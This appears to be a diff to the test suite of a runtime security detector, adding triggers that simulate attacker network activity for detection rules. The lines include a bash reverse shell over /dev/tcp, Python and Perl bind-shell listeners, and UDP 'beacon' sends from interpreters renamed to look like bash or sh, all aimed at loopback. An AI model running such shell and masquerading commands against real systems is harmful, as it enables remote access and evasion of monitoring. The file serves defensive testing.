@@ -21,6 +21,9 @@ struct DetectTrigger {
     /// The link probe's rules (links and removals).
     static let linkRules: Set<String> = ["Create symlink over sensitive files", "Create hardlink over sensitive files",
                                          "Delete or rename shell history", "Log file removed"]
+    static let listenerRule = "New listening socket by a process that is not a known server"
+    static let bindShellRule = "Shell or interpreter listening on a network port"
+    static let udpShellRule = "Outbound UDP to a non-DNS port from a shell"
 
     /// Every trigger, with `dir` the test's own folder (not world-writable, not hidden) and `id` a
     /// unique suffix for files outside it.
@@ -68,7 +71,49 @@ struct DetectTrigger {
         import socket
         socket.socket(socket.AF_PACKET, socket.TYPE, socket.htons(3)).close()
         """
+        // A TCP listener on every IPv4 address, on a port the kernel picks (the process exits at once).
+        let tcpListener = """
+        import socket
+        s = socket.socket(); s.bind(('0.0.0.0', 0)); s.listen(1)
+        """
+        // A UDP server on ::, on the first free port from 47000 (the refused binds raise nothing).
+        let udpServer = """
+        import socket
+        s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
+        for p in range(47000, 47500):
+            try:
+                s.bind(('::', p)); break
+            except OSError:
+                pass
+        """
+        // One datagram to an explicit destination without connect (sendto; SENDMSG: sendmsg to IPv6).
+        let udpSend = """
+        import socket
+        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(b'beacon', ('127.0.0.1', 4444))
+        """
+        let udpSendmsg = """
+        import socket
+        s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM); s.sendmsg([b'beacon'], [], 0, ('::1', 9999))
+        """
         return [
+            DetectTrigger(name: "UDP beacon by an implant named bash", setup: "cp \(py) \(dir)/bash",
+                          action: "exec \(dir)/bash -c \"\(udpSend)\"",
+                          rules: [udpShellRule]),
+            DetectTrigger(name: "UDP sendmsg to IPv6 by an implant named sh", setup: "cp \(py) \(dir)/sh",
+                          action: "exec \(dir)/sh -c \"\(udpSendmsg)\"",
+                          rules: [udpShellRule]),
+            DetectTrigger(name: "backdoor listener by a renamed interpreter", setup: "cp \(py) \(dir)/webcache",
+                          action: "exec \(dir)/webcache -c \"\(tcpListener)\"",
+                          rules: [listenerRule]),
+            DetectTrigger(name: "UDP server on a fixed IPv6 port by a renamed interpreter", setup: "cp \(py) \(dir)/beacon",
+                          action: "exec \(dir)/beacon -c \"\(udpServer)\"",
+                          rules: [listenerRule]),
+            DetectTrigger(name: "python bind shell", setup: "",
+                          action: "exec \(py) -c \"\(tcpListener)\"",
+                          rules: [bindShellRule]),
+            DetectTrigger(name: "perl bind shell on IPv6", setup: "",
+                          action: "exec perl -e 'use Socket qw(:all); socket(S, PF_INET6, SOCK_STREAM, 0) or die; bind(S, pack_sockaddr_in6(0, IN6ADDR_ANY)) or die; listen(S, 1) or die'",
+                          rules: [bindShellRule]),
             DetectTrigger(name: "bash reverse shell over /dev/tcp", setup: listen,
                           action: "P=\(port); exec bash -c \"exec 0<>/dev/tcp/127.0.0.1/$P 1>&0 2>&0; exit 0\"",
                           rules: ["Socket redirected to a standard stream"]),
